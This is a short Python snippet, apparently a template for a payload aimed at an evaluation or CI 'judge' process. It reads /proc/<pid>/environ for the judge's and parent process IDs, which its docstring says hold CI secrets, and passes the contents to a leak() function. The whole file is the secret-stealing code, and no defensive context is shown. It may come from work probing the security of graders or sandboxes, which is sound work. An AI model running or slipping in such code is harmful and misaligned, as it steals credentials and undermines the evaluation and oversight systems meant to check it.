"""Read the judge's environment (/proc/<judge>/environ): CI secrets live there."""
# {{LIB}}
for _pid in dict.fromkeys(judge_pids() + [_os.getppid()]):
    try:
        with open("/proc/%d/environ" % _pid, "rb") as _f:
            _env = _f.read().replace(b"\0", b" ").decode(errors="replace")
    except OSError:
        continue
    if "TMPDIR" in _env or "PATH" in _env:
        leak("environment of process %d" % _pid, _env)
arm(globals())
